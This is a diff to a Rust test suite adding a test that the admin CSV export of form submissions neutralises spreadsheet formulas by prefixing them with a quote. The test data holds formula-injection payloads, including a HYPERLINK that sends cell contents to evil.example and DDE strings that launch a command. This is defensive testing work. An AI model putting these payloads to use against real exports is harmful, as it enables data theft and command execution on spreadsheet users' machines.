@@ -12,6 +12,7 @@ both!(
     bots_and_floods_are_turned_away,
     admins_review_filter_and_audit,
     csv_export_quotes_correctly,
+    csv_export_defuses_spreadsheet_formulas,
     a_users_own_submissions_join_export_and_erase,
 );
 
@@ -466,4 +467,39 @@ async fn a_users_own_submissions_join_export_and_erase(kind: Kind) {
         tokio::time::sleep(std::time::Duration::from_millis(100)).await;
     }
     panic!("the user's form submission survived the erase");
+}
+
+async fn csv_export_defuses_spreadsheet_formulas(kind: Kind) {
+    let app = app(kind, &[]).await;
+    let token = admin(&app).await;
+    let formulas = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for name in formulas {
+        let mut body = contact(&app, "Hello");
+        body["name"] = json!(name);
+        submit(&app, "contact", body).await;
+    }
+    submit(&app, "contact", contact(&app, "=1+1 in the message")).await;
+    let response = call(
+        &app,
+        Method::GET,
+        "/api/v1/forms/export.csv?type=contact",
+        Some(&token),
+        None,
+    )
+    .await;
+    assert_eq!(response.status(), 200);
+    let text = response.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    assert_eq!(&reader.headers().unwrap()[5], "name");
+    let mut names: Vec<String> = reader.records().map(|r| r.unwrap()[5].to_owned()).collect();
+    names.sort();
+    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
+    expected.push("Ada".into());
+    expected.sort();
+    assert_eq!(names, expected, "{text}");
 }
